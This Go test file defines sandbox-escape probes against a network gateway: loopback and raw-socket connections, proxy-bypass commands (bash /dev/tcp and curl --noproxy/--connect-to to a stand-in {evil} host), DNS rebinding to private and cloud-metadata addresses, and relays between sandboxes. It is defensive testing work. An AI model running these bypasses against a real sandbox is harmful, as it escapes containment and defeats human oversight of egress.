//go:build linux

package attack

import (
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"palyra/internal/core/must"
)

// These names denote the walls outside of the sandbox. These walls are in the gateway, so they
// cannot be left out like layers. The control of a row disables such a wall. It adds a rule
// that allows the attack (lift), or sends the same bytes to their destination without any check
// (bare). For an attack on a proxy, a careless proxy forwards the bytes.
const (
	rules     = "egress rules"
	classes   = "address classes"
	pinned    = "pinned answers"
	nameCheck = "server name check"
	hostCheck = "host check"
	framing   = "HTTP framing"
	resolver  = "name service"
	budget    = "egress budget"
	requests  = "method and path rules"
	wherever  = "places of secrets"
	scrubbing = "scrubbing"
)

// allow returns a step that allows a scene to reach these places. It can also disable a wall.
func allow(places ...string) func(*scene) { return func(c *scene) { c.allow(places...) } }

// all returns a step that runs the steps in order.
func all(steps ...func(*scene)) func(*scene) {
	return func(c *scene) {
		for _, s := range steps {
			s(c)
		}
	}
}

func alarm(kinds ...string) func(*scene) { return func(c *scene) { c.internet().alarm(kinds...) } }

// names maps a label of the site's zone to addresses; the addresses after "then" are the second
// answer.
func names(label string, list ...string) func(*scene) {
	return func(c *scene) {
		answers := [][]netip.Addr{nil}
		for _, a := range list {
			if a == "then" {
				answers = append(answers, nil)
				continue
			}
			answers[len(answers)-1] = append(answers[len(answers)-1], netip.MustParseAddr(c.fill(a)))
		}
		c.internet().names(label, answers...)
	}
}

// talk returns the probe that runs a network conversation.
func talk(steps ...string) []string { return append([]string{"talk"}, steps...) }

const (
	getGood = `send GET / HTTP/1.1\r\nHost: {good}\r\nConnection: close\r\n\r\n`
	getEvil = `send GET / HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n`
)

// networkRows are NET-01: packets that bypass the gateway.
func networkRows() []row {
	const direct = "direct connections"
	const granted = "{good}:{service}" // a port on which the program listens inside
	var list []row
	add := func(variant string, told string, prepare func(*scene), steps ...string) {
		list = append(list, row{id: "NET-01", variant: variant, source: direct, walls: layers(netNS), told: told, prepare: prepare, probe: talk(steps...)})
	}
	for _, to := range []struct{ variant, at string }{
		{"a service of the host, IPv4", "127.0.0.1"}, {"a service of the host, IPv6", "[::1]"}, {"another loopback address", "127.9.8.7"},
		{"0.0.0.0", "0.0.0.0"}, {"the unspecified address of IPv6", "[::]"},
	} {
		add(to.variant, "unlisted", allow(granted), "tcp "+to.at+":{service}", "send x", "want")
		add(to.variant+", offline", "", func(c *scene) { c.internet(); c.spec.Network = nil }, "tcp "+to.at+":{service}", "send x", "want")
	}
	for family, addr := range ownAddresses() {
		at := net.JoinHostPort(addr, "{service}")
		add("the host's own address, "+family, "unlisted", allow(granted), "tcp "+at, "send x", "want")
		add("the host's own address, UDP, "+family, "", allow(granted), "udp "+at, "send x", "want")
	}
	add("a port that no rule names", "", allow("{good}:443"), "tcp 127.0.0.1:{service}", "send x", "want")
	add("IPv4 mapped into IPv6", "unlisted", allow(granted), "mapped 127.0.0.1:{service}", "send x", "want")
	add("UDP, IPv4", "", allow(granted), "udp 127.0.0.1:{service}", "send x", "want")
	add("UDP, IPv6", "", allow(granted), "udp [::1]:{service}", "send x", "want")

	made := func(variant string, walls []string, words ...string) {
		list = append(list, row{id: "NET-01", variant: variant, source: direct, walls: walls, prepare: allow(granted), probe: words})
	}
	for _, s := range sockets() {
		if s.there() {
			made("socket of "+s.name, s.walls, "socket-kind", fmt.Sprint(s.domain), fmt.Sprint(s.kind), fmt.Sprint(s.protocol))
		}
	}
	made("ping", layers(seccomp), "socket-kind", "2", "2", "1")
	made("ping, IPv6", layers(seccomp), "socket-kind", "10", "2", "58")
	made("raw socket", layers(seccomp, caps), "raw-send", "127.0.0.1")
	made("raw socket, IPv6", layers(seccomp, caps), "raw-send", "::1")
	made("packet socket", layers(seccomp, caps), "packet-send")
	made("netlink", layers(seccomp), "socket-kind", "16", "3", "0")
	return append(list, row{id: "NET-01", variant: "routes taken away by netlink", source: direct, walls: layers(seccomp, caps), prepare: allow(granted), probe: probe("netlink-route")})
}

// kind is a socket type that the kernel may or may not support.
type kind struct {
	name                   string
	domain, kind, protocol int
	walls                  []string
}

func sockets() []kind {
	return []kind{
		{"vsock", unix.AF_VSOCK, unix.SOCK_STREAM, 0, layers(seccomp)},
		{"MPTCP", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP, layers(seccomp)},
		{"SCTP", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP, layers(seccomp)},
		{"UDP-Lite", unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_UDPLITE, layers(seccomp)},
		{"XDP", unix.AF_XDP, unix.SOCK_RAW, 0, layers(seccomp, caps)},
		{"crypto", unix.AF_ALG, unix.SOCK_SEQPACKET, 0, layers(seccomp)},
		{"TIPC", unix.AF_TIPC, unix.SOCK_STREAM, 0, layers(seccomp)},
		{"SMC", unix.AF_SMC, unix.SOCK_STREAM, 0, layers(seccomp)},
	}
}

func (k kind) there() bool {
	fd, err := unix.Socket(k.domain, k.kind|unix.SOCK_CLOEXEC, k.protocol)
	if err == nil {
		_ = unix.Close(fd)
	}
	return err == nil || err == unix.EPERM
}

// bypassRows are NET-02 and NET-07: programs that ignore their proxy settings, and redirects
// from an allowed host.
func bypassRows() []row {
	const ignore, redirect = "proxy settings ignored", "redirects"
	const initial = `\xc3\x00\x00\x00\x01\x08palyra00\x00\x00\x44\x9e` // of QUIC (RFC 9000 section 17.2.2)
	curl := func(args ...string) func(*scene) {
		return func(c *scene) {
			c.allow("{good}:80", "{good}:443")
			c.program(c.fillAll(append([]string{"curl", "-sS", "-m", "5"}, args...))...)
		}
	}
	reach := func(variant string, told string, lift func(*scene), steps ...string) row {
		return row{id: "NET-02", variant: variant, source: ignore, walls: layers(rules), told: told, prepare: allow("{good}:443", "{good}:80", "{good}:53"),
			lift: lift, probe: talk(steps...)}
	}
	return []row{
		reach("no proxy variables", "unlisted", allow("{evil}:443"), "fetch https://{evil}/"),
		reach("no proxy variables, plain HTTP", "unlisted", allow("{evil}:80"), "fetch http://{evil}/"),
		reach("literal address", "unlisted", allow("{evil4}:443"), "tcp {evil4}:443", "tls -", getEvil, "want"),
		reach("literal address, IPv6", "unlisted", allow("[{evil6}]:443"), "tcp [{evil6}]:443", "tls -", getEvil, "want"),
		reach("literal address, mapped", "unlisted", allow("{evil4}:80"), "mapped {evil4}:80", `send GET / HTTP/1.1\r\nHost: {evil4}\r\n\r\n`, "want"),
		reach("DNS over HTTPS", "unlisted", allow("{evil4}:443"), "fetch https://{evil4}/dns-query?dns=cGFseXJh"),
		{id: "NET-02", variant: "own resolver, TCP", source: ignore, walls: layers(rules), told: "unlisted", prepare: allow("{good}:53"), lift: allow(otherResolver),
			probe: talk("tcp "+otherResolver, "ask 1 leak/{evil/}"), effect: reached},
		{id: "NET-02", variant: "own resolver, UDP", source: ignore, walls: layers(netNS), prepare: allow("{good}:53"),
			probe: talk("udp {resolver}", "ask 1 leak/{evil/}"), effect: reached},
		{id: "NET-02", variant: "QUIC to an allowed host", source: ignore, walls: layers(netNS), prepare: allow("{good}:443"),
			probe: talk("udp {quic}", "send "+initial, "want"), effect: reached},
		{id: "NET-02", variant: "QUIC to an address", source: ignore, walls: layers(netNS), prepare: allow("{good}:443"),
			probe: talk("udp {quic4}", "send "+initial, "want"), effect: reached},
		{id: "NET-02", variant: "/dev/tcp of bash", source: ignore, walls: layers(rules), told: "unlisted", effect: reached, lift: allow("{evil}:80", "{evil4}:80"),
			prepare: func(c *scene) {
				c.allow("{good}:80")
				c.bash(`for h in {evil} {evil4}; do (exec 3<>/dev/tcp/$h/80; printf 'GET / HTTP/1.0\r\nHost: %s\r\n\r\n' $h >&3; cat <&3); done; true`)
			}},
		{id: "NET-02", variant: "curl --noproxy", source: ignore, walls: layers(rules), told: "unlisted", effect: reached, lift: allow("{evil}:80"),
			prepare: curl("--noproxy", "*", "http://{evil}/")},
		{id: "NET-02", variant: "curl --resolve", source: ignore, walls: layers(rules), told: "unlisted", effect: reached, lift: allow("{evil4}:80"),
			prepare: curl("--resolve", "x:80:{evil4}", "-H", "Host: {evil4}", "http://x/")},
		{id: "NET-02", variant: "curl --connect-to", source: ignore, walls: layers(rules), told: "unlisted", effect: reached, lift: allow("{evil}:80"),
			prepare: curl("--connect-to", "{good}:80:{evil}:80", "-H", "Host: {evil}", "http://{good}/")},

		{id: "NET-07", variant: "plain", source: redirect, walls: layers(rules), told: "unlisted", prepare: allow("{good}:80"), lift: allow("{evil}:80"),
			probe: talk("fetch http://{good}/redirect")},
		{id: "NET-07", variant: "TLS", source: redirect, walls: layers(rules), told: "unlisted", prepare: allow("{good}:443"), lift: allow("{evil}:443"),
			probe: talk("fetch https://{good}/redirect")},
		{id: "NET-07", variant: "of an inspected host", source: redirect, walls: layers(rules), told: "unlisted",
			prepare: func(c *scene) { c.inspect(nil, nil) }, lift: allow("{evil}:443"), probe: talk("fetch https://{good}/redirect")},
	}
}

// addressRows are NET-03: an allowed name that resolves to an address that must not be dialled.
// The server evil answers on the port at every such address.
func addressRows() []row {
	const source = "rebinding, nip.io"
	var list []row
	say := []string{"send hello", "want"}
	for _, a := range []struct{ variant, addr, lift string }{
		{"loopback", "127.0.0.1", "127.0.0.1:{port}"}, {"loopback, another", "127.1.2.3", "127.1.2.3:{port}"}, {"loopback, IPv6", "::1", "[::1]:{port}"},
		{"loopback, mapped", "::ffff:127.0.0.1", "127.0.0.1:{port}"}, {"private, 10", "10.1.2.3", "10.1.2.3:{port}"},
		{"private, 172.16", "172.16.0.1", "172.16.0.1:{port}"}, {"private, 192.168", "192.168.0.1", "192.168.0.0/16:{port}"},
		{"private, IPv6", "fd12::1", "[fd12::1]:{port}"}, {"shared, 100.64", "100.64.0.1", "100.64.0.1:{port}"}, {"own interface", "{own}", "{own}:{port}"},
		{"benchmarks, 198.18", "198.18.0.1", "198.18.0.1:{port}"},
		{"unspecified", "0.0.0.0", ""}, {"unspecified, IPv6", "::", ""}, {"link-local", "169.254.7.7", ""}, {"link-local, IPv6", "fe80::1", ""},
		{"metadata", "169.254.169.254", ""}, {"metadata, IPv6", "fd00:ec2::254", ""}, {"metadata, Alibaba", "100.100.100.200", ""},
		{"multicast", "224.0.0.1", ""}, {"broadcast", "255.255.255.255", ""}, {"NAT64 of loopback", "64:ff9b::7f00:1", ""},
		{"NAT64 of metadata", "64:ff9b::a9fe:a9fe", ""}, {"6to4 of loopback", "2002:7f00:1::1", ""}, {"compatible with loopback", "::127.0.0.1", ""},
	} {
		r := row{id: "NET-03", variant: a.variant, source: source, walls: layers(classes), told: "address_not_public",
			prepare: all(allow("inner.{zone}:{port}"), names("inner", a.addr)), probe: talk(append([]string{"tcp inner.{zone}:{port}"}, say...)...)}
		if r.lift = names("inner", "{evil4}"); a.lift != "" {
			r.lift = allow(a.lift)
		}
		list = append(list, r)
	}
	again := []string{"tcp twice.{zone}:{port}", `send GET / HTTP/1.1\r\nHost: twice.{zone}:{port}\r\nConnection: close\r\n\r\n`, "want fine"}
	last := []string{again[0], again[1], "want"}
	return append(list,
		row{id: "NET-03", variant: "the second answer is another host", source: source, walls: layers(pinned),
			prepare: all(allow("twice.{zone}:{port}"), names("twice", "{good4}", "then", "{evil4}")), lift: names("twice", "{evil4}"),
			probe: talk(append(append([]string{}, append(again, last...)...), append([]string{"or"}, last...)...)...)},
		row{id: "NET-03", variant: "the second answer is loopback", source: source, walls: layers(pinned, classes), prepare: all(allow("twice.{zone}:{port}"), names("twice", "{good4}", "then", "127.0.0.1")),
			lift: all(allow("127.0.0.1:{port}"), names("twice", "127.0.0.1")), probe: talk(append(append(again, last...), append([]string{"or"}, last...)...)...)},
		row{id: "NET-03", variant: "one answer of several", source: source, walls: layers(classes), told: "address_not_public",
			prepare: all(allow("twice.{zone}:{port}"), names("twice", "127.0.0.1", "{good4}")), lift: allow("127.0.0.1:{port}"),
			probe: talk(append(append(append([]string{}, last...), "or"), last...)...)},
		row{id: "NET-03", variant: "address in the name, below a wildcard", source: source, walls: layers(classes), told: "address_not_public",
			prepare: all(allow("*.{zone}:{port}"), names("127.0.0.1", "127.0.0.1"), names("7f000001", "127.0.0.1")), lift: allow("127.0.0.1:{port}"),
			probe: talk("tcp 127.0.0.1.{zone}:{port}", "send hello", "want", "or", "tcp 7f000001.{zone}:{port}", "send hello", "want")},
		row{id: "NET-03", variant: "localhost by the proxy", source: source, walls: layers(classes), told: "address_not_public", prepare: allow("localhost:{port}"),
			lift: allow("127.0.0.1:{port}"), probe: talk("tcp {proxy}", `send CONNECT localhost:{port} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n`, "want  200", "send hello", "want")},
		row{id: "NET-03", variant: "a rule for all of IPv4", source: source, walls: layers(classes), told: "address_not_public", prepare: allow("0.0.0.0/0:{port}"),
			lift: allow("127.0.0.0/8:{port}"), probe: talk("tcp 127.0.0.1:{port}", "send hello", "want")},
		row{id: "NET-03", variant: "a rule for all of IPv6", source: source, walls: layers(classes), told: "address_not_public", prepare: allow("[::/0]:{port}"),
			lift: allow("[::1]:{port}"), probe: talk("tcp [::1]:{port}", "send hello", "want")},
		row{id: "NET-03", variant: "a rule for the metadata service", source: source, walls: layers(classes), told: "address_not_public unlisted",
			prepare: allow("169.254.169.254:{port}", "{good}:{port}"), lift: all(allow("inner.{zone}:{port}"), names("inner", "{evil4}")),
			probe: talk("tcp 169.254.169.254:{port}", "send hello", "want", "or", "tcp inner.{zone}:{port}", "send hello", "want")},
		row{id: "NET-03", variant: "a denied address of an allowed name", source: source, walls: layers(rules), told: "denied_rule address_not_public",
			prepare: func(c *scene) { c.allow("inner.{zone}:{port}"); names("inner", "{evil4}")(c); c.deny("{evil4}") },
			lift:    func(c *scene) { c.spec.Network.Rules.Deny = nil }, probe: talk(append([]string{"tcp inner.{zone}:{port}"}, say...)...)},
	)
}

// neighbourRows are NET-10 and NET-11: sandboxes that reach each other, and connections from
// outside.
func neighbourRows() []row {
	const relay, inbound = "claude-code#87381", "services inside"
	other := []string{"relay", "{@evil:80}"}
	list := []row{
		{id: "NET-10", variant: "through the relay of another sandbox", source: relay, walls: layers(netNS), beside: other, besideAllow: []string{"{evil}:80"},
			prepare: allow("{good}:80"), probe: talk("tcp 127.0.0.1:{neighbour}", getEvil, "want", "or", "tcp 0.0.0.0:{neighbour}", getEvil, "want", "or", "tcp [::1]:{neighbour}", getEvil, "want")},
		{id: "NET-10", variant: "addresses that were given to another", source: relay, walls: layers(rules), beside: other, besideAllow: []string{"{evil}:80"},
			prepare: allow("{good}:80"), lift: allow("{evil}:80"),
			probe: talk("udp {dns}", "maybe ask 1 {evil/}", "ask 1 {good/}", "sweep 24 80 {evil}", "or", "udp {dns}", "ask 28 {good/}", "sweep 24 80 {evil}")},
		{id: "NET-10", variant: "the proxy of another", source: relay, walls: layers(rules), told: "unlisted", beside: other, besideAllow: []string{"{evil}:80"},
			prepare: allow("{good}:80"), lift: allow("{evil}:80"),
			probe: talk("tcp {proxy}", `send CONNECT {evil}:80 HTTP/1.1\r\nHost: {evil}:80\r\n\r\n`, "want  200", getEvil, "want")},
	}
	list = append(list, row{id: "NET-10", variant: "a sandbox prepared for another grant", source: relay})
	for variant, at := range map[string]string{"IPv4": "127.0.0.1:0", "all addresses": "0.0.0.0:0", "IPv6": "[::]:0"} {
		list = append(list, row{id: "NET-11", variant: "TCP, " + variant, source: inbound, walls: layers(netNS), prepare: allow("{good}:80"),
			probe: probe("listen", at, "{token}", "{@good:80}", "{good}"), visit: visit("tcp"), effect: reached})
	}
	return append(list, row{id: "NET-11", variant: "UDP", source: inbound, walls: layers(netNS), prepare: allow("{good}:80"),
		probe: probe("listen-udp", "0.0.0.0:0", "{token}", "{@good:80}", "{good}"), visit: visit("udp"), effect: reached})
}

// politeness limits how long a visitor waits for a foreign service. A connection to a port
// without a listener fails at once.
const politeness = must.Patience / 4

// visit connects to the port on every address of the machine and looks for the scene's token in
// the answer. Another service of the machine may listen on the same port. At the end, visit
// closes the site's visited channel.
func visit(network string) func(c *scene, port string) {
	return func(c *scene, port string) {
		defer close(c.site.visited)
		hosts := []string{"127.0.0.1", "::1"}
		for _, a := range ownAddresses() {
			hosts = append(hosts, a)
		}
		for _, h := range hosts {
			conn, err := net.DialTimeout(network, net.JoinHostPort(h, port), politeness)
			if err != nil {
				continue
			}
			_ = conn.SetDeadline(time.Now().Add(politeness))
			_, _ = io.WriteString(conn, "x")
			text := make([]byte, 64)
			if n, _ := conn.Read(text); strings.Contains(string(text[:n]), c.token) {
				c.site.hit(forbidden, "the program was reached at "+h)
			}
			conn.Close()
		}
	}
}
